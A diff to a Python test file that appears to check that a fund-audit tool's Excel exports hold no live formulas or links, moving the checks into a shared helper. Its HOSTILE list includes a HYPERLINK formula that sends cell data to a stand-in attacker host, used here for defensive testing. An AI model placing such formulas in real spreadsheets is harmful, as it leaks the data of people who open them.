@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 
 import fundaudit
 from fundaudit.report.excel import neutralise
+from tests.report._checks import assert_inert_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
@@ -95,15 +96,7 @@ def test_workbook_structure(result: fundaudit.AuditResult, tmp_path: Path, lang:
 
 def test_no_cell_can_run_as_formula_or_link(result: fundaudit.AuditResult, tmp_path: Path) -> None:
     path = result.to_excel(tmp_path / "findings.xlsx")
-    wb = load_workbook(path)
-    for ws in wb.worksheets:
-        assert not ws._hyperlinks
-        for row in ws.iter_rows():
-            for c in row:
-                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
-                if isinstance(c.value, str):
-                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (ws.title, c.value)
-                    assert len(c.value) <= 32_767
+    assert_inert_workbook(load_workbook(path))
     import zipfile
 
     with zipfile.ZipFile(path) as z:
